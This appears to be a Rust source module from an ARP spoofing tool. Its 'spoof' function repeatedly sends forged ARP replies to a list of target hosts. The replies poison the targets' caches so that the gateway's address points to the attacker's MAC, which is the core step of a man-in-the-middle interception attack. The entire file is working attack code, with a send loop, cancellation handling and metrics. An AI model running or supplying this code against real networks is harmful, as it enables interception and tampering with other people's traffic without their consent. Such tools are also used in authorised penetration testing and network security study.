//! Spoof engine: keeps the targets' ARP caches pointing the gateway at us.

use std::net::Ipv4Addr;
use std::time::Duration;

use pnet::util::MacAddr;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

use crate::error::Result;
use crate::metrics::{ARP_FRAMES_TOTAL, SPOOF_ROUNDS_TOTAL};
use crate::network::{PacketSender, arp};
use crate::target::Target;

/// Send one forged reply per target every `interval` until `cancel` fires.
///
/// Rounds are serial: every target of a round is sent before the pause.
/// Cancellation is checked before each round and during each pause.
/// Returns the number of completed rounds.
///
/// # Errors
///
/// Returns the first send failure. Nothing is retried.
pub async fn spoof<S: PacketSender + ?Sized>(
    sender: &mut S,
    targets: &[Target],
    attacker_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    interval: Duration,
    cancel: &CancellationToken,
) -> Result<u64> {
    let frames = targets
        .iter()
        .map(|target| arp::build_spoof_reply(attacker_mac, gateway_ip, target.ip(), target.mac()))
        .collect::<Result<Vec<_>>>()?;

    let mut rounds = 0;
    while !cancel.is_cancelled() {
        for frame in &frames {
            sender.send(frame)?;
        }
        rounds += 1;
        metrics::counter!(ARP_FRAMES_TOTAL, "kind" => "spoof").increment(frames.len() as u64);
        metrics::counter!(SPOOF_ROUNDS_TOTAL).increment(1);
        debug!(round = rounds, "spoof round sent");

        tokio::select! {
            () = cancel.cancelled() => break,
            () = tokio::time::sleep(interval) => {}
        }
    }

    info!(rounds, "spoofing stopped");
    Ok(rounds)
}
